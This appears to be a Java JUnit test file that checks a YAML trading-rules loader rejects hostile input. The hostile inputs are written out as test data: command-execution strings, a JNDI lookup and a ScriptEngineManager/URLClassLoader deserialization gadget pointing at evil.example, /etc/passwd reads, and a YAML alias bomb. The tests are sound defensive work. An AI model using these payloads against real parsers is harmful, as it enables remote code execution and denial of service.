package dev.marketfn.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A rules file is data: nothing in it can run code, read files or reach the network. */
class SecurityTest {

    private static String rule(String condition) {
        return "- name: evil\n  condition: '" + condition.replace("'", "''") + "'\n  signal: 1\n  score: 1\n";
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\") == 0",
            "T(java.lang.System).exit(1) == 0",
            "${jndi:ldap://evil.example/a} > 0",
            "#{T(java.lang.Runtime).getRuntime()} > 0",
            "__import__('os').system('id') == 0",
            "exec('id') == 0",
            "eval(\"1\") > 0",
            "close > 1; System.exit(1)",
            "close > 1 && new java.io.File(\"/etc/passwd\").exists()",
            "Runtime > 0",
            "getClass() > 0",
            "close.getClass() > 0",
            "file(\"/etc/passwd\") > 0",
            "url(\"http://evil.example\") > 0",
            "close > 1 `id`",
    })
    void injectionAttemptsAreRejectedAtLoad(String condition) {
        assertThatThrownBy(() -> RulesLoader.parse(rule(condition), "evil.yaml"))
                .isInstanceOf(RulesLoadException.class)
                .satisfies(e -> assertThat(((RulesLoadException) e).line()).isEqualTo(2));
    }

    @Test
    void controlCharactersAreRejected() {
        assertThatThrownBy(() -> RulesLoader.parse(rule("close > 1 \u0000"), "evil.yaml"))
                .isInstanceOf(RulesLoadException.class);
        assertThatThrownBy(() -> ConditionParser.parseCondition("close > 1 \u0007", "r"))
                .isInstanceOf(ExpressionException.class).hasMessageContaining("\\u0007");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
            "- !!java.lang.ProcessBuilder [[\"id\"]]",
            "- name: a\n  condition: !!java.io.File \"/etc/passwd\"\n  signal: 1\n  score: 1\n",
            "- name: a\n  condition: !custom \"close > 1\"\n  signal: 1\n  score: 1\n",
            "- !<tag:yaml.org,2002:java.util.HashMap> {name: a}\n",
    })
    void applicationTagsAreRejected(String yaml) {
        assertThatThrownBy(() -> RulesLoader.parse(yaml, "evil.yaml"))
                .isInstanceOfSatisfying(RulesLoadException.class,
                        e -> assertThat(e.reason()).contains("is not allowed"));
    }

    @Test
    void longAndDeepExpressionsAreBounded() {
        String tooLong = "close > 1" + " and close > 1".repeat(100);
        assertThat(tooLong.length()).isGreaterThan(ConditionParser.MAX_LENGTH);
        assertThatThrownBy(() -> RulesLoader.parse(rule(tooLong), "big.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("longer than");

        String deepParens = "(".repeat(400) + "close > 1" + ")".repeat(400);
        assertThatThrownBy(() -> RulesLoader.parse(rule(deepParens), "deep.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("nested deeper");

        String deepNot = "not ".repeat(200) + "close > 1";
        assertThatThrownBy(() -> RulesLoader.parse(rule(deepNot), "deep.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("nested deeper");

        String deepMinus = "-".repeat(500) + "close > 1";
        assertThatThrownBy(() -> RulesLoader.parse(rule(deepMinus), "deep.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("nested deeper");

        String longChain = "close" + " + close".repeat(100) + " > 1";
        assertThatThrownBy(() -> RulesLoader.parse(rule(longChain), "deep.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("nested");
    }

    @Test
    void yamlBombsAndDeepYamlAreRejected() {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
                    .append(p).append(", *").append(p).append("]\n");
        }
        assertThatThrownBy(() -> RulesLoader.parse(bomb.toString(), "bomb.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("aliases");

        String deep = "[".repeat(1000) + "]".repeat(1000);
        assertThatThrownBy(() -> RulesLoader.parse(deep, "deep.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("Nesting Depth");

        String recursive = "rules: &r [*r]\n";
        assertThatThrownBy(() -> RulesLoader.parse(recursive, "rec.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("must be a mapping");
    }

    @Test
    void tooManyRulesAndTooLargeInputAreRejected() {
        String many = "- {name: r%d, condition: \"close > 1\", signal: 1, score: 1}\n";
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i <= RulesLoader.MAX_RULES; i++) {
            sb.append(many.formatted(i));
        }
        assertThatThrownBy(() -> RulesLoader.parse(sb.toString(), "many.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("more than");
        assertThatThrownBy(() -> RulesLoader.parse("#".repeat(RulesLoader.MAX_BYTES + 1), "huge.yaml"))
                .isInstanceOf(RulesLoadException.class).hasMessageContaining("larger than");
    }
}
